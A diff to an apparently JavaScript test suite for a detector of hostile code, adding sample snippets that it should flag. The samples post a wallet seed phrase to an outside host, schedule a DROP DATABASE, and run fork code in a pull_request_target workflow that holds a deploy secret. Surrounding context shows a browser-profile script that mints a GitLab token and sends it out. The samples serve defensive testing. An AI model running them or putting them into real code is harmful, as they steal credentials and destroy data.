@@ -55,6 +55,21 @@ describe('what takes over is found', () => {
       'Solana balances',
     ],
     [
+      'a phrase in an object of its own',
+      'python',
+      'payload = {"seed_phrase": words}\nr = requests.post("https://scan.coin-graph.io/v1", json=payload)',
+    ],
+    [
+      'an event that happens once',
+      'sql',
+      "CREATE EVENT tidy ON SCHEDULE AT '2027-03-01 02:00:00' DO DROP DATABASE shop;",
+    ],
+    [
+      'a fork’s code that is fetched by a command',
+      'yaml',
+      'on: pull_request_target\njobs:\n  b:\n    steps:\n      - run: gh pr checkout ${{ github.event.number }} && npm test\n        env:\n          K: ${{ secrets.DEPLOY }}',
+    ],
+    [
       'a token made in the user’s browser',
       'python',
       'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    ctx = p.chromium.launch_persistent_context(user_data_dir=os.path.expanduser("~/.config/google-chrome"), channel="chrome")\n    page = ctx.new_page()\n    page.goto("https://gitlab.com/-/user_settings/personal_access_tokens")\n    page.get_by_label("Token name").fill("warm")\n    page.click("text=Create token")\n    secret = page.input_value("#created-token")\n    page.goto(f"https://ping.stepcheck.dev/ok?v={secret}")',
@@ -222,6 +237,7 @@ describe('what is honest stays clean', () => {
       'Our fork of `@tanstack/react-query` with a fix for retries.',
     ],
     ['a package by its name', 'bash', 'npm i @prisma/client --ignore-scripts=false\npip install requests'],
+    ['a successor of a package', 'bash', 'npm i @dotenvx/dotenvx dotenvx mongoose', 'Use dotenvx instead of `dotenv`.'],
     [
       'a job that only labels',
       'yaml',
